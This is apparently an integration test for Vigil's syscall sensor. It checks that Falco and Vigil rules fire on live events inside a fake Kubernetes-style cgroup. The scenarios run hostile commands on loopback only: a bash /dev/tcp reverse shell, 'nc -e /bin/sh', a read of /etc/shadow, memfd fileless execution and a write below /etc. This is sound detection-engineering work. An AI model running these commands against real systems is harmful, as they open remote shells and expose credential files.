/**
 * The syscall sensor on this machine, for real: bpftrace attached to tracepoints, real commands
 * (on loopback only), Falco's upstream rules (stable, incubating, sandbox) and Vigil's bundled
 * syscall pack judging the live events. Needs root, bpftrace and tracefs: skips loudly
 * without them, fails in CI (VIGIL_REQUIRE_ALL=1).
 *
 * Container rules fire without a container runtime: the commands run in a cgroup whose path
 * looks like the kubelet's (`kubepods/besteffort/pod<uid>/<64 hex>`), and the sensor must
 * derive container.id from it. One sensor serves every scenario (starting bpftrace takes
 * seconds); each scenario finds its alerts by its own processes (pid, container id, file).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { type Alert, Engine, alertToJson } from '../../../src/engine/engine.ts';
import { defaultTables } from '../../../src/engine/tables.ts';
import { encodeRecordedEvent, type SyscallEvent } from '../../../src/events/syscall.ts';
import { fieldRecorder } from '../../../src/fields/syscall/record.ts';
import { usedSyscallFields } from '../../../src/fields/syscall/table.ts';
import { replayFiles } from '../../../src/cli/replay.ts';
import { canRunSensor, startSensor, type Sensor } from '../../../src/sources/syscall/runtime.ts';
import { projectRoot, sharedPath, skipOrFail } from '../../helpers.ts';
import { FakeContainer, listener, run, toolDir, which } from './scenarios.ts';

const UPSTREAM = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => sharedPath('falco', 'rules', f));
const STABLE = UPSTREAM[0]!;
const BUNDLED = path.join(projectRoot, 'rules', 'vigil-syscall.yaml');

interface Seen { alert: Alert; ev: SyscallEvent }

function engine(files: string[], ruleMatching: 'first' | 'all'): Engine {
  const e = new Engine({ tables: defaultTables(), ruleMatching });
  const res = e.loadFiles(files);
  assert.ok(res.ok, res.diagnostics.filter((d) => d.severity === 'error').map((d) => d.message).join('\n'));
  return e;
}

async function waitFor<T>(what: string, get: () => T | undefined, ms = 15_000): Promise<T> {
  const until = Date.now() + ms;
  for (;;) {
    const v = get();
    if (v !== undefined) return v;
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

const proc = (s: Seen) => s.ev.live!.proc;

test('syscall sensor: live events raise Falco\'s rules and Vigil\'s pack', { timeout: 240_000 }, async (t) => {
  const can = canRunSensor();
  if (!can.ok) return skipOrFail(t, `syscall sensor: ${can.why}`);
  if (!UPSTREAM.every((f) => existsSync(f))) return skipOrFail(t, 'syscall sensor: ../shared/falco/rules is missing');
  if (!which('perl')) return skipOrFail(t, 'syscall sensor: perl is missing (memfd scenario)');

  const all = engine(UPSTREAM, 'all');
  const stable = engine([STABLE], 'first');
  const bundled = engine([BUNDLED], 'all');
  const recorder = fieldRecorder(defaultTables().get('syscall')!, usedSyscallFields());
  const seenAll: Seen[] = [];
  const seenStable: Seen[] = [];
  const seenBundled: Seen[] = [];
  const recorded: string[] = [];
  const liveAlertsOfRecorded: string[] = [];
  let recording = true;

  const onEvent = (ev: SyscallEvent): void => {
    const a = all.process(ev);
    for (const x of a) seenAll.push({ alert: x, ev });
    for (const x of stable.process(ev)) seenStable.push({ alert: x, ev });
    for (const x of bundled.process(ev)) seenBundled.push({ alert: x, ev });
    if (recording && (a.length > 0 || all.candidateCount(ev) > 0)) {
      recorded.push(encodeRecordedEvent(ev.timeNs, recorder.record(ev)));
      for (const x of a) liveAlertsOfRecorded.push(alertToJson(x));
    }
  };

  // Other test files run beside this one (timing-sensitive ones among them): the sensor, bpftrace
  // (which inherits it) and the scenarios run at a lower priority.
  os.setPriority(0, 10);
  const logs: string[] = [];
  const sensor: Sensor = startSensor({ onEvent, log: (l, m) => logs.push(`${l}: ${m}`) });
  const tools = toolDir();
  const box = new FakeContainer();
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'vigil-sensor-home-'));
  try {
    await sensor.ready;

    await t.test('cat /etc/shadow by an untrusted program', async () => {
      const r = run(['sh', '-c', 'cat /etc/shadow > /dev/null']);
      await r.exited;
      const hit = await waitFor('Read sensitive file untrusted', () => seenAll.find((s) =>
        s.alert.rule === 'Read sensitive file untrusted' && proc(s).ppid === r.pid));
      const f = hit.alert.output_fields;
      assert.equal(f['fd.name'], '/etc/shadow');
      assert.equal(f['proc.name'], 'cat');
      assert.equal(f['proc.pname'], 'sh');
      assert.equal(f['proc.cmdline'], 'cat /etc/shadow');
      assert.equal(f['proc.exepath'], path.resolve('/usr/bin/cat'));
      assert.equal(f['evt.type'], 'openat');
      assert.equal(f['user.name'], 'root');
      assert.equal(hit.ev.live!.proc.container.id, 'host');
      await waitFor('Vigil Credential File Read', () => seenBundled.find((s) => s.alert.rule === 'Vigil Credential File Read' && proc(s).ppid === r.pid));
    });

    await t.test('a write below /etc', async () => {
      const file = `/etc/vigil-sensor-test-${process.pid}-${Date.now()}`;
      try {
        const r = run(['touch', file]);
        await r.exited;
        const hit = await waitFor('Write below etc', () => seenAll.find((s) => s.alert.rule === 'Write below etc' && s.alert.output_fields['fd.name'] === file));
        assert.equal(hit.alert.output_fields['proc.name'], 'touch');
        assert.equal(hit.alert.output_fields['proc.cmdline'], `touch ${file}`);
        assert.equal(proc(hit).pid, r.pid);
        await waitFor('Vigil Write Below Etc', () => seenBundled.find((s) => s.alert.rule === 'Vigil Write Below Etc' && s.ev.live!.fd?.name === file));
      } finally {
        rmSync(file, { force: true });
      }
    });

    await t.test('a shell with a terminal in a container', async (st) => {
      if (!tools.runc) return skipOrFail(st, 'script(1) is missing (util-linux)');
      // `runc` is script(1): it gives its child a pty, and the child is the shell.
      const r = run(box.wrap([tools.runc, '-qec', 'exit 0', '/dev/null']), { env: { ...process.env, SHELL: '/bin/bash', HOME: tmp } });
      await r.exited;
      const hit = await waitFor('Terminal shell in container', () => seenAll.find((s) =>
        s.alert.rule === 'Terminal shell in container' && proc(s).container.id === box.id));
      const f = hit.alert.output_fields;
      assert.equal(f['proc.name'], 'bash');
      assert.equal(f['proc.pname'], 'runc');
      assert.notEqual(f['proc.tty'], 0);
      assert.equal(f['evt.type'], 'execve');
      assert.equal(proc(hit).container.fullId, box.fullId);
      await waitFor('Vigil Shell In Container With Terminal', () => seenBundled.find((s) =>
        s.alert.rule === 'Vigil Shell In Container With Terminal' && proc(s).container.id === box.id));
    });

    await t.test('bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 in a container', async () => {
      const l = await listener();
      try {
        const r = run(box.wrap(['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]), { env: { ...process.env, HOME: tmp } });
        await l.connected;
        await r.exited;
        const hit = await waitFor('Redirect STDOUT/STDIN to Network Connection in Container', () => seenAll.find((s) =>
          s.alert.rule === 'Redirect STDOUT/STDIN to Network Connection in Container' && proc(s).container.id === box.id &&
          s.alert.output_fields['fd.sip'] === '127.0.0.1' && s.alert.output_fields['fd.rport'] === l.port));
        const f = hit.alert.output_fields;
        assert.equal(f['proc.name'], 'bash');
        assert.equal(f['fd.type'], 'ipv4');
        assert.equal(f['fd.l4proto'], 'tcp');
        assert.match(String(f['fd.name']), new RegExp(`^127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:${l.port}$`));
        assert.ok(['dup2', 'dup3', 'dup', 'fcntl'].includes(String(f['evt.type'])));
        assert.ok([0, 1, 2].includes(hit.ev.live!.res!));
        await waitFor('Vigil Standard Stream Redirected To Socket', () => seenBundled.find((s) =>
          s.alert.rule === 'Vigil Standard Stream Redirected To Socket' && proc(s).container.id === box.id));
      } finally {
        l.close();
      }
    });

    await t.test('nc -e /bin/sh in a container', async (st) => {
      if (!tools.nc) return skipOrFail(st, 'no netcat with -e (Debian: ncat or netcat-traditional)');
      const l = await listener();
      try {
        const r = run(box.wrap([tools.nc, '-e', '/bin/sh', '127.0.0.1', String(l.port)]));
        await l.connected;
        await r.exited;
        const hit = await waitFor('Netcat Remote Code Execution in Container', () => seenAll.find((s) =>
          s.alert.rule === 'Netcat Remote Code Execution in Container' && proc(s).container.id === box.id));
        const f = hit.alert.output_fields;
        assert.equal(f['proc.name'], 'nc');
        assert.equal(f['proc.cmdline'], `nc -e /bin/sh 127.0.0.1 ${l.port}`);
        assert.equal(f['evt.type'], 'execve');
        assert.match(String(f['evt.arg.flags']), /EXE_WRITABLE/);
        await waitFor('Vigil Netcat Runs Commands', () => seenBundled.find((s) =>
          s.alert.rule === 'Vigil Netcat Runs Commands' && proc(s).container.id === box.id));
      } finally {
        l.close();
      }
    });

    await t.test('a program executed from memfd_create', async () => {
      const r = run(['perl', tools.memfdScript]);
      const code = await r.exited;
      assert.equal(code, 0, r.output());
      const hit = await waitFor('Fileless execution via memfd_create', () => seenAll.find((s) =>
        s.alert.rule === 'Fileless execution via memfd_create' && proc(s).pid === r.pid));
      const f = hit.alert.output_fields;
      assert.equal(f['proc.exepath'], 'memfd:vigil-test');
      assert.equal(f['proc.name'], String(hit.ev.live!.proc.comm));
      assert.equal(f['proc.cmdline'], `${proc(hit).comm}`);
      assert.equal(f['evt.res'], 'SUCCESS');
      await waitFor('Vigil Program Run From Memory', () => seenBundled.find((s) => s.alert.rule === 'Vigil Program Run From Memory' && proc(s).pid === r.pid));
    });

    await t.test('a quiet period raises nothing (stable rules)', async () => {
      // Let the scenarios' last events through, then watch.
      await new Promise((r) => setTimeout(r, 1500));
      const before = seenStable.length;
      const benign = run(['sh', '-c', 'ls /etc > /dev/null; cat /etc/hostname > /dev/null; id > /dev/null']);
      await benign.exited;
      await new Promise((r) => setTimeout(r, 3000));
      const extra = seenStable.slice(before).map((s) => `${s.alert.rule}: ${s.alert.output}`);
      assert.deepEqual(extra, []);
    });

    await t.test('the recorded session replays to the same alerts', async () => {
      recording = false;
      assert.ok(recorded.length > 0);
      const file = path.join(tmp, 'session.jsonl');
      writeFileSync(file, recorded.join('\n') + '\n');
      const out: string[] = [];
      const errs: string[] = [];
      const r = await replayFiles([file], { rules: UPSTREAM, source: 'syscall', ruleMatching: 'all', format: 'json' },
        { out: (l) => out.push(l), err: (l) => errs.push(l) });
      assert.equal(r.code, 0, errs.join('\n'));
      assert.deepEqual(errs, []);
      assert.ok(liveAlertsOfRecorded.length >= 6, `only ${liveAlertsOfRecorded.length} live alerts recorded`);
      assert.deepEqual(out, liveAlertsOfRecorded);
    });

    const stats = sensor.stats();
    assert.equal(stats.drops.parse, 0, 'unreadable records');
    t.diagnostic(`sensor: ${stats.events} events, ${stats.records} records, drops ${JSON.stringify(stats.drops)}, reorder ${JSON.stringify(stats.reorder)}`);
  } finally {
    await sensor.stop();
    box.remove();
    tools.remove();
    rmSync(tmp, { recursive: true, force: true });
    if (logs.some((l) => l.startsWith('error'))) t.diagnostic(logs.join('\n'));
  }
});
